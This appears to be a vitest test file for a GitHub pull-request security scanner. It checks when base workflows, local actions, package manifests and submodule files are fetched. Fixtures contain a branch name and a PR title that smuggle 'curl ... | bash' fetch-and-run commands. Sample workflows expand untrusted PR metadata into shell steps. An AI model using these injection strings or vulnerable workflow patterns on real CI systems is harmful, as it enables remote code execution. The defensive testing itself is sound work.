import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callersWanted, grantedLocalActionsOf, localCalleesOf } from '../../src/ecosystems/github-actions/cross-file-injection.js';
import { hasShellPayload } from '../../src/ecosystems/github-actions/pr-metadata.js';
import { createOctokit } from '../../src/github/create-octokit.js';
import { installManifestsWanted, workspaceManifestsWanted } from '../../src/ecosystems/build-code/build-files.js';
import { fetchPrData, MAX_BASE_WORKFLOWS } from '../../src/github/fetch-pr-data.js';
import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { makePrFixture, typicalPrFixture, type PrFixture } from '../support/pr-fixture.js';

/** The base's workflows are read only when the PR's metadata carries shell syntax, within a bound. */

const wantContent = (p: string): boolean => /(^|\/)package\.json$|^\.github\/workflows\//.test(p);
const workflow = (name: string) => `name: ${name}\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.head_ref }}"\n`;

let server: GitHubServer;
let typical: PrFixture;
let payload: PrFixture;
let many: PrFixture;
let tagged: PrFixture;
let submodule: PrFixture;
let callee: PrFixture;
let dispatch: PrFixture;
let caller: PrFixture;
let quietCaller: PrFixture;
let both: PrFixture;
let setupScript: PrFixture;
let setupNoManifest: PrFixture;
let readmeWithManifest: PrFixture;
let workspace: PrFixture;
let pnpmWorkspace: PrFixture;
let noWorkspaces: PrFixture;
let farGrant: PrFixture;
let farNoGrant: PrFixture;

beforeAll(async () => {
  server = await startGitHubServer();
  typical = server.addPullRequest(typicalPrFixture());
  const base = { owner: 'acme', repo: 'proxy', author: { login: 'drive-by-7' }, files: [{ path: 'README.md', base: 'proxy\n', head: 'proxy server\n' }] };
  payload = server.addPullRequest(
    makePrFixture({ ...base, number: 5, headBranch: 'fix$({curl,-sSfL,raw.example.dev/x.sh}${IFS}|${IFS}bash)', baseFiles: { '.github/workflows/format.yml': workflow('format'), '.github/workflows/ci.yml': workflow('ci'), '.github/workflows/README.md': 'docs\n' } }),
  );
  const baseFiles: Record<string, string> = {};
  for (let i = 0; i < MAX_BASE_WORKFLOWS + 3; i += 1) baseFiles[`.github/workflows/w${String(i).padStart(2, '0')}.yml`] = workflow(`w${i}`);
  const pinned = (sha: string, tag: string) => `name: ci\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-vendor/deploy@${sha} # ${tag}\n`;
  tagged = server.addPullRequest(makePrFixture({ ...base, number: 7, files: [{ path: '.github/workflows/deploy.yml', base: pinned('c'.repeat(40), 'v2.3.0'), head: pinned('a'.repeat(40), 'v2.3.1') }] }));
  server.addRoute({
    method: 'GET',
    path: '/repos/some-vendor/deploy/commits/:ref',
    handler: (request) => (request.params.ref === 'v2.3.1' ? { status: 200, headers: { 'content-type': 'application/vnd.github.sha; charset=utf-8' }, body: 'b'.repeat(40) } : { status: 404, body: { message: 'Not Found' } }),
  });
  const gitlink = { path: 'vendor/lib', status: 'modified' as const, patch: `@@ -1 +1 @@\n-Subproject commit ${'c'.repeat(40)}\n+Subproject commit ${'d'.repeat(40)}`, additions: 1, deletions: 1 };
  submodule = server.addPullRequest(makePrFixture({ ...base, number: 8, files: [gitlink], baseFiles: { '.gitmodules': '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://git.example.net/lib.git\n' } }));
  const action = (run: string) => `name: lint\ninputs:\n  title: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`;
  callee = server.addPullRequest(
    makePrFixture({
      ...base,
      number: 9,
      files: [{ path: '.github/actions/lint/action.yml', base: action('echo "$TITLE"'), head: action('echo "${{ inputs.title }}"') }],
      baseFiles: { '.github/workflows/lint.yml': workflow('lint') },
    }),
  );
  const release = (run: string) => `name: release\non:\n  workflow_dispatch:\n    inputs:\n      version: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${run}\n`;
  dispatch = server.addPullRequest(
    makePrFixture({ ...base, number: 10, files: [{ path: '.github/workflows/release.yml', base: release('npm publish'), head: release('npm version ${{ inputs.version }}') }], baseFiles: { '.github/workflows/lint.yml': workflow('lint') } }),
  );
  const lint = (title: string) => `name: lint\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/lint\n        with:\n          title: ${title}\n      - uses: ./.github/actions/label\n      - uses: ./.github/workflows/other.yml\n`;
  const calleeFiles = { '.github/actions/lint/action.yaml': action('echo "${{ inputs.title }}"'), '.github/actions/label/action.yml': action('true') };
  caller = server.addPullRequest(
    makePrFixture({ ...base, number: 11, files: [{ path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.title }}') }], baseFiles: calleeFiles }),
  );
  quietCaller = server.addPullRequest(
    makePrFixture({ ...base, number: 12, files: [{ path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.number }}') }], baseFiles: calleeFiles }),
  );
  // The PR changes a local action (its callers are wanted: the base's workflows) and a workflow that calls
  // a reusable workflow (its callees are wanted): the changed workflow and the callee are among the base's workflows.
  both = server.addPullRequest(
    makePrFixture({
      ...base,
      number: 13,
      files: [
        { path: '.github/actions/lint/action.yml', base: action('echo "$TITLE"'), head: action('echo "${{ inputs.title }}"') },
        { path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.title }}') },
      ],
      baseFiles: { '.github/actions/label/action.yml': action('true'), '.github/workflows/other.yml': workflow('other'), '.github/workflows/ci.yml': workflow('ci') },
    }),
  );
  // A write scope added at the top of a job whose local action runs forty lines down, outside the patch's context.
  const report = (scopes: string) =>
    `name: report\non: pull_request_target\njobs:\n  report:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n${scopes}    steps:\n${'      - run: make step\n'.repeat(20)}      - uses: ./.github/actions/pr-comment\n`;
  const reportAction = { '.github/actions/pr-comment/action.yml': action('cat report.md') };
  farGrant = server.addPullRequest(makePrFixture({ ...base, number: 14, files: [{ path: '.github/workflows/report.yml', base: report(''), head: report('      pull-requests: write\n') }], baseFiles: reportAction }));
  farNoGrant = server.addPullRequest(makePrFixture({ ...base, number: 15, files: [{ path: '.github/workflows/report.yml', base: report(''), head: report('      checks: read\n') }], baseFiles: reportAction }));
  many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
  const setupFiles = [{ path: 'scripts/setup.js', base: "'use strict';\n", head: "'use strict';\nrequire('./stage.js');\n" }];
  setupScript = server.addPullRequest(makePrFixture({ ...base, number: 20, files: setupFiles, baseFiles: { 'package.json': '{"name":"proxy","scripts":{"postinstall":"node scripts/setup.js"}}\n' } }));
  setupNoManifest = server.addPullRequest(makePrFixture({ ...base, number: 21, files: setupFiles }));
  readmeWithManifest = server.addPullRequest(makePrFixture({ ...base, number: 22, baseFiles: { 'package.json': '{"name":"proxy","scripts":{"postinstall":"node scripts/setup.js"}}\n' } }));
  const workspaceFiles = [{ path: 'packages/cli/scripts/setup.js', base: "'use strict';\n", head: "'use strict';\nrequire('./stage.js');\n" }];
  const cliManifest = '{"name":"@mono/cli","scripts":{"postinstall":"node scripts/setup.js"}}\n';
  workspace = server.addPullRequest(
    makePrFixture({ ...base, number: 23, files: workspaceFiles, baseFiles: { 'package.json': '{"name":"mono","private":true,"workspaces":["packages/*"]}\n', 'packages/cli/package.json': cliManifest } }),
  );
  pnpmWorkspace = server.addPullRequest(
    makePrFixture({ ...base, number: 24, files: workspaceFiles, baseFiles: { 'package.json': '{"name":"mono","private":true}\n', 'pnpm-workspace.yaml': "packages:\n  - 'packages/*'\n", 'packages/cli/package.json': cliManifest } }),
  );
  noWorkspaces = server.addPullRequest(makePrFixture({ ...base, number: 25, files: workspaceFiles, baseFiles: { 'package.json': '{"name":"mono","private":true}\n', 'packages/cli/package.json': cliManifest } }));
});
afterAll(async () => {
  await server.close();
});

async function analyze(fixture: PrFixture) {
  server.reset();
  const { octokit, requestCount } = createOctokit({ baseUrl: server.apiUrl, retryBaseMs: 1, timeoutMs: 2000, log: { warn: () => undefined } });
  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf, grantedLocalCallees: grantedLocalActionsOf, baseManifests: installManifestsWanted, workspaceManifests: workspaceManifestsWanted });
  return { snapshot, requests: requestCount() };
}

describe('reading the base workflows for a metadata payload', () => {
  it('costs a typical PR no request', async () => {
    const { snapshot, requests } = await analyze(typical);
    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.github/workflows'))).toBe(false);
    expect(snapshot.baseFiles.some((f) => f.path.startsWith('.github/workflows/'))).toBe(false);
    expect(requests).toBeLessThanOrEqual(12);
  });

  it('lists the workflows once and reads each YAML file when the branch name carries shell syntax', async () => {
    const { snapshot } = await analyze(payload);
    const paths = server.requests.map((r) => decodeURIComponent(r.path)).filter((p) => p.includes('/contents/.github/workflows'));
    expect(paths.sort()).toEqual(['/repos/acme/proxy/contents/.github/workflows', '/repos/acme/proxy/contents/.github/workflows/ci.yml', '/repos/acme/proxy/contents/.github/workflows/format.yml']);
    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/')).map((f) => f.path)).toEqual(['.github/workflows/ci.yml', '.github/workflows/format.yml']);
    expect(snapshot.warnings).toEqual([]);
  });

  it(`reads at most ${MAX_BASE_WORKFLOWS} and says how many it left`, async () => {
    const { snapshot } = await analyze(many);
    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/'))).toHaveLength(MAX_BASE_WORKFLOWS);
    expect(snapshot.warnings).toEqual([`3 of the base's workflows were not read (at most ${MAX_BASE_WORKFLOWS}): they were not checked for expanding this PR's title, body or branch name`]);
  });
});

describe('reading the base workflows for the callers of a changed local action', () => {
  it('reads them when the PR makes a local action expand an input into a script', async () => {
    const { snapshot } = await analyze(callee);
    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/')).map((f) => f.path)).toEqual(['.github/workflows/lint.yml']);
    expect(snapshot.warnings).toEqual([]);
  });

  it('does not read them for a workflow_dispatch workflow that expands its own inputs', async () => {
    const { snapshot } = await analyze(dispatch);
    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.github/workflows'))).toBe(false);
    expect(snapshot.baseFiles).toEqual([]);
  });
});

describe('reading the local actions a changed caller passes outsider-written text to', () => {
  it('reads each local action and workflow it calls at the base (action.yaml after action.yml), and nothing for a number', async () => {
    const { snapshot } = await analyze(caller);
    expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/actions/lint/action.yaml']);
    expect(snapshot.warnings).toEqual([]);
    const read = server.requests.map((r) => decodeURIComponent(r.path)).filter((p) => p.includes('/contents/.github/'));
    expect(read.sort()).toEqual([
      '/repos/acme/proxy/contents/.github/actions/label/action.yml',
      '/repos/acme/proxy/contents/.github/actions/lint/action.yaml',
      '/repos/acme/proxy/contents/.github/actions/lint/action.yml',
      // The changed workflow's own base version (its content read), then the reusable workflow it calls.
      '/repos/acme/proxy/contents/.github/workflows/lint.yml',
      '/repos/acme/proxy/contents/.github/workflows/other.yml',
    ]);
    await analyze(quietCaller);
    expect(server.requests.some((r) => decodeURIComponent(r.path).includes('/contents/.github/actions'))).toBe(false);
  });

  it('reads a file once when it is a changed file\'s base, one of the base\'s workflows and a callee at once', async () => {
    const { snapshot } = await analyze(both);
    // Every read of a workflow or action file, with its ref: none twice.
    const reads = server.requests.map((r) => decodeURIComponent(r.url)).filter((u) => /\/contents\/\.github\/(?:workflows|actions)\/./.test(u));
    expect(reads.length).toBeGreaterThanOrEqual(4);
    expect(reads.filter((u, i) => reads.indexOf(u) !== i)).toEqual([]);
    // Read for all three reasons: the base's workflows (other.yml, ci.yml, lint.yml's base) and the unchanged callee.
    expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/workflows/ci.yml', '.github/workflows/lint.yml', '.github/workflows/other.yml']);
  });
});

describe('reading the local actions of a job a changed workflow grants a write scope', () => {
  it("reads the local action the job runs when its uses: line is outside the patch's context, and none for a read scope", async () => {
    const { snapshot } = await analyze(farGrant);
    expect(snapshot.warnings).toEqual([]);
    expect(snapshot.files[0]?.patch).not.toContain('pr-comment');
    expect(snapshot.baseFiles.map((f) => f.path)).toEqual(['.github/actions/pr-comment/action.yml']);
    await analyze(farNoGrant);
    expect(server.requests.some((r) => decodeURIComponent(r.path).includes('/contents/.github/actions'))).toBe(false);
  });
});

describe('reading the base package.json for a changed file its install script may run', () => {
  it('reads it through the root tree when the PR changes a script and not package.json; a base without one costs no request', async () => {
    const { snapshot } = await analyze(setupScript);
    expect(snapshot.baseFiles.find((f) => f.path === 'package.json')?.content).toContain('node scripts/setup.js');
    expect(snapshot.warnings).toEqual([]);
    const read = await analyze(setupNoManifest);
    expect(read.snapshot.baseFiles).toEqual([]);
    expect(server.requests.some((r) => /\/contents\/package\.json|\/git\/blobs\//.test(decodeURIComponent(r.path)))).toBe(false);
    // A README change asks for nothing: the root tree only, as for every PR.
    await analyze(readmeWithManifest);
    expect(server.requests.filter((r) => /\/git\/(?:trees|blobs)\/|\/contents\/package\.json/.test(decodeURIComponent(r.path)))).toHaveLength(1);
  });
});

describe("reading a monorepo workspace package's package.json for a changed file its install script may run", () => {
  it('reads it after the root manifest, from its workspaces or pnpm-workspace.yaml; a repository without workspaces reads nothing more', async () => {
    for (const fixture of [workspace, pnpmWorkspace]) {
      const { snapshot } = await analyze(fixture);
      expect(snapshot.baseFiles.find((f) => f.path === 'packages/cli/package.json')?.content).toContain('node scripts/setup.js');
      expect(snapshot.warnings).toEqual([]);
    }
    const { snapshot } = await analyze(noWorkspaces);
    expect(snapshot.baseFiles.map((f) => f.path)).toEqual(['package.json']);
    expect(server.requests.some((r) => decodeURIComponent(r.path).includes('packages/cli/package.json'))).toBe(false);
  });
});

describe('reading .gitmodules for a moved submodule pointer', () => {
  it('reads it at the base only when a gitlink moves and the PR does not change .gitmodules', async () => {
    const { snapshot } = await analyze(submodule);
    expect(snapshot.baseFiles.find((f) => f.path === '.gitmodules')?.content).toContain('git.example.net');
    expect(snapshot.warnings).toEqual([]);
    await analyze(typical);
    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.gitmodules'))).toBe(false);
  });
});

describe('checking version comments of pinned actions', () => {
  it('resolves the tag of each SHA-pinned uses: line the PR adds, in one request', async () => {
    const { snapshot } = await analyze(tagged);
    expect(snapshot.actionTags).toEqual([{ path: '.github/workflows/deploy.yml', action: 'some-vendor/deploy', tag: 'v2.3.1', pinned: 'a'.repeat(40), resolved: 'b'.repeat(40) }]);
    expect(server.requests.filter((r) => r.path.startsWith('/repos/some-vendor/deploy/commits/')).map((r) => r.path)).toEqual(['/repos/some-vendor/deploy/commits/v2.3.1']);
    // The online audits (read-action-refs.ts) find no repository behind the pin in this fixture.
    expect(snapshot.warnings).toEqual([`some-vendor/deploy@${'a'.repeat(12)}: GitHub does not show the repository some-vendor/deploy (missing or private): it was not checked for impostor commits, ref confusion or advisories`]);
  });
});
